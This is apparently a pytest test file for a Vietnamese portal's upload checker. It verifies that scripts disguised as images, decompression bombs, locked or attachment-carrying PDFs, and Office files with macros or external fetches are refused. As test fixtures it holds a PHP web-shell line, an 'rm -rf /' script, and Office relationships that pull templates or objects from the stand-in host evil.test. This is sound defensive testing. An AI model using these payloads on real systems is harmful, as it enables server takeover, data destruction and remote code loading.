import zipfile
import zlib
from io import BytesIO

import pikepdf
import pytest
from PIL import Image, ImageFile

from cnnt_portal.errors import Refused
from cnnt_portal.files import inspection
from cnnt_portal.files.inspection import inspect
from cnnt_portal.files.kinds import ANYTHING, DOCUMENTS, IMAGES, PDF, SCANS, SHEETS, Kind
from tests.factories.files import docx, jpeg, pdf, png, webp, xlsx


def refusal_of(content, accept=ANYTHING, **options):
    with pytest.raises(Refused) as caught:
        inspect(BytesIO(content), accept=accept, **options)
    return caught.value.sentence


@pytest.mark.parametrize(
    ("make", "kind"),
    [
        (jpeg, Kind.JPEG),
        (png, Kind.PNG),
        (webp, Kind.WEBP),
        (pdf, Kind.PDF),
        (docx, Kind.DOCX),
        (xlsx, Kind.XLSX),
    ],
)
def test_each_kind_is_known_by_its_content(make, kind):
    file = BytesIO(make())
    assert inspect(file, accept=ANYTHING) is kind
    assert file.tell() == 0


def test_a_phone_picture_of_several_frames_is_a_jpeg():
    out = BytesIO()
    frames = [Image.new("RGB", (40, 30), colour) for colour in ("red", "blue")]
    frames[0].save(out, "MPO", save_all=True, append_images=frames[1:])
    assert inspect(out, accept=IMAGES) is Kind.JPEG


@pytest.mark.parametrize(
    "content",
    [
        b"<?php system($_GET['c']); ?>",
        b"<html><script>alert(1)</script></html>",
        b"#!/bin/sh\nrm -rf /\n",
        b"MZ\x90\x00" + b"\0" * 200,
        b"just words",
        b"\xff",
    ],
)
def test_a_script_called_jpeg_is_refused_by_its_content(content):
    assert refusal_of(content, IMAGES).startswith("Nội dung tệp không phải là ảnh JPEG, ảnh PNG hoặc ảnh WebP")


def test_a_script_behind_a_jpeg_header_is_refused_as_a_broken_picture():
    assert refusal_of(b"\xff\xd8\xff\xe0\x00\x10JFIF\x00<?php system(1); ?>" + b"\0" * 100, IMAGES).startswith(
        "Không đọc được ảnh"
    )


@pytest.mark.parametrize(
    ("content", "accept", "begins"),
    [
        (b"", ANYTHING, "Tệp rỗng (0 byte)"),
        (b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 40, IMAGES, "Ảnh HEIC của điện thoại chưa được nhận"),
        (b"GIF89a\x01\0\x01\0\0\0\0;", IMAGES, "Định dạng ảnh này chưa được nhận"),
        (b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>', IMAGES, "Định dạng ảnh này chưa được nhận"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, DOCUMENTS, "Tệp Word hoặc Excel đời cũ"),
        (b"%PDF-1.7\nnothing more", PDF, "Không đọc được tệp PDF"),
        (b"PK\x03\x04 no archive at all", DOCUMENTS, "Không đọc được tệp"),
    ],
)
def test_what_is_not_accepted_gets_a_sentence_of_its_own(content, accept, begins):
    assert refusal_of(content, accept).startswith(begins)


@pytest.mark.parametrize(("make", "share"), [(jpeg, 0.7), (png, 0.5), (webp, 0.5), (docx, 0.5), (xlsx, 0.5)])
def test_a_file_cut_short_is_refused(make, share, monkeypatch):
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)
    whole = make(size=(900, 700)) if make in (jpeg, png, webp) else make()
    assert inspect(BytesIO(whole), accept=ANYTHING) in Kind
    assert refusal_of(whole[: int(len(whole) * share)]).startswith("Không đọc được")


def test_a_good_file_of_a_kind_not_wanted_here_is_refused_with_what_is_wanted():
    assert refusal_of(docx(), SCANS) == (
        "Tệp này là Word (.docx); ở đây chỉ nhận ảnh JPEG, ảnh PNG, ảnh WebP hoặc PDF. "
        "Hãy lưu hoặc xuất tệp thành PDF rồi tải lên."
    )
    assert refusal_of(pdf(), SHEETS).startswith("Tệp này là PDF; ở đây chỉ nhận Excel (.xlsx).")


def test_the_limit_of_size_is_inclusive(settings):
    content = png()
    settings.FILES_MAX_BYTES = len(content)
    assert inspect(BytesIO(content), accept=IMAGES) is Kind.PNG
    settings.FILES_MAX_BYTES = len(content) - 1
    assert "vượt quá mức cho phép" in refusal_of(content)


def test_the_refusal_names_the_field():
    with pytest.raises(Refused) as caught:
        inspect(BytesIO(b""), accept=PDF, field="registration_paper")
    assert caught.value.field == "registration_paper"


def picture_header(width, height):
    """A PNG that declares a size and holds nothing."""
    body = b"IHDR" + width.to_bytes(4, "big") + height.to_bytes(4, "big") + b"\x08\x02\0\0\0"
    chunk = (13).to_bytes(4, "big") + body + zlib.crc32(body).to_bytes(4, "big")
    return b"\x89PNG\r\n\x1a\n" + chunk + b"\0\0\0\0IDAT" + zlib.crc32(b"IDAT").to_bytes(4, "big")


@pytest.mark.parametrize("side", [8_000, 10_000, 40_000, 60_000])
def test_a_picture_bomb_is_refused_before_it_is_decoded(side):
    assert refusal_of(picture_header(side, side)).startswith("Kích thước ảnh quá lớn")


def test_a_locked_pdf_is_refused_and_one_that_anybody_can_open_is_kept():
    locked = pdf(encryption=pikepdf.Encryption(user="mat-khau", owner="chu"))
    assert refusal_of(locked).startswith("Tệp PDF có đặt mật khẩu")
    no_printing = pdf(encryption=pikepdf.Encryption(user="", owner="chu"))
    assert inspect(BytesIO(no_printing), accept=PDF) is Kind.PDF


def pdf_with_stream(data, filters, **entries):
    with pikepdf.new() as document:
        document.add_blank_page()
        stream = pikepdf.Stream(document, b"")
        stream.write(data, filter=pikepdf.Array([pikepdf.Name(name) for name in filters]))
        for key, value in entries.items():
            stream[f"/{key}"] = value
        document.pages[0].Contents = document.make_indirect(stream)
        out = BytesIO()
        document.save(out, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return out.getvalue()


def packed(size, times=1):
    """`size` zero bytes deflated `times` times, without ever holding them at once."""
    press = zlib.compressobj(9)
    data = b"".join([*(press.compress(bytes(1024 * 1024)) for _ in range(size // (1024 * 1024))), press.flush()])
    for _ in range(times - 1):
        data = zlib.compress(data, 9)
    return data


def test_a_pdf_whose_stream_unpacks_enormously_is_refused():
    assert inspect(BytesIO(pdf_with_stream(packed(2 * 1024 * 1024), ["/FlateDecode"])), accept=PDF) is Kind.PDF
    bomb = pdf_with_stream(packed(300 * 1024 * 1024), ["/FlateDecode"])
    assert len(bomb) < 1024 * 1024
    assert refusal_of(bomb).startswith("Tệp PDF được nén bất thường")


def test_a_pdf_with_many_large_streams_is_refused_by_their_sum(monkeypatch):
    content = pdf_with_stream(packed(3 * 1024 * 1024), ["/FlateDecode"])
    assert inspect(BytesIO(content), accept=PDF) is Kind.PDF
    monkeypatch.setattr(inspection, "MAX_PDF_UNPACKED", 1024 * 1024)
    assert refusal_of(content).startswith("Tệp PDF được nén bất thường")


def test_a_pdf_with_streams_packed_in_each_other_is_refused():
    twice = pdf_with_stream(packed(400 * 1024 * 1024, times=2), ["/FlateDecode"] * 2)
    assert len(twice) < 10_000
    assert refusal_of(twice).startswith("Tệp PDF được nén bất thường")
    many = pdf_with_stream(packed(1024 * 1024, times=8), ["/FlateDecode"] * 8)
    assert refusal_of(many).startswith("Tệp PDF được nén bất thường")


def test_a_pdf_picture_that_declares_a_monstrous_size_is_refused():
    sizes = {"Type": pikepdf.Name("/XObject"), "Subtype": pikepdf.Name("/Image")}
    plain = pdf_with_stream(packed(1024 * 1024), ["/FlateDecode"], Width=2480, Height=3508, **sizes)
    assert inspect(BytesIO(plain), accept=PDF) is Kind.PDF
    bomb = pdf_with_stream(packed(1024 * 1024), ["/FlateDecode"], Width=100_000, Height=100_000, **sizes)
    assert refusal_of(bomb).startswith("Tệp PDF được nén bất thường")


def test_a_pdf_that_carries_other_files_is_refused():
    with pikepdf.new() as document:
        document.add_blank_page()
        document.attachments["virus.exe"] = pikepdf.AttachedFileSpec(document, b"MZ")
        out = BytesIO()
        document.save(out)
    assert refusal_of(out.getvalue()).startswith("Tệp PDF có đính kèm tệp khác bên trong")


def test_a_pdf_without_pages_is_refused():
    assert refusal_of(pdf(pages=0)).startswith("Tệp PDF không có trang nào")


def archive(parts, base=None):
    out = BytesIO(base or b"")
    with zipfile.ZipFile(out, "a" if base else "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return out.getvalue()


def test_a_word_file_that_unpacks_enormously_is_refused():
    bomb = archive({"word/media/x.bin": bytes(201 * 1024 * 1024)}, base=docx())
    assert len(bomb) < 1024 * 1024
    assert refusal_of(bomb).startswith("Tệp được nén bất thường")


def test_a_word_file_with_a_macro_is_refused():
    assert refusal_of(archive({"word/vbaProject.bin": b"x"}, base=docx())).startswith("Tệp có chứa macro")


def relationship(kind, target, mode=' TargetMode="External"'):
    of = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    packages = "http://schemas.openxmlformats.org/package/2006/relationships"
    rows = f'<Relationship Id="rId99" Type="{of}/{kind}" Target="{target}"{mode}/>'
    return f'<?xml version="1.0"?><Relationships xmlns="{packages}">{rows}</Relationships>'


@pytest.mark.parametrize(
    ("base", "parts"),
    [
        (docx, {"word/_rels/settings.xml.rels": relationship("attachedTemplate", "http://evil.test/x.dotm")}),
        (docx, {"word/_rels/header1.xml.rels": relationship("image", r"\\evil.test\share\x.png")}),
        (docx, {"word/_rels/footer1.xml.rels": relationship("oleObject", "http://evil.test/x").encode("utf-16")}),
        (docx, {"word/_rels/webSettings.xml.rels": relationship("frame", "http://evil.test/x")}),
        (docx, {"word/_rels/endnotes.xml.rels": relationship("aFChunk", "/word/part.html", mode="")}),
        (docx, {"word/_rels/endnotes.xml.rels": "<Relationships"}),
        (docx, {"word/embeddings/oleObject1.bin": b"x"}),
        (docx, {"word/activeX/activeX1.xml": b"<x/>"}),
        (xlsx, {"xl/externalLinks/externalLink1.xml": b"<x/>"}),
        (xlsx, {"xl/connections.xml": b"<x/>"}),
        (xlsx, {"xl/Connections.XML": b"<x/>"}),
    ],
)
def test_an_office_file_that_fetches_from_elsewhere_when_it_is_opened_is_refused(base, parts):
    words = refusal_of(archive(parts, base=base()))
    assert words.startswith(("Tệp Word hoặc Excel này lấy nội dung từ nơi khác", "Không đọc được tệp"))


def test_an_office_file_with_a_link_that_only_a_click_follows_is_kept():
    linked = {"word/_rels/footnotes.xml.rels": relationship("hyperlink", "https://cnnt.example.vn/")}
    assert inspect(BytesIO(archive(linked, base=docx())), accept=ANYTHING) is Kind.DOCX


def test_an_ordinary_archive_is_no_word_file():
    assert refusal_of(archive({"a.exe": b"MZ"}), DOCUMENTS).startswith("Không đọc được tệp: tệp nén (.zip)")
    assert refusal_of(archive({"[Content_Types].xml": b"<Types/>"}), DOCUMENTS).startswith("Không đọc được tệp")
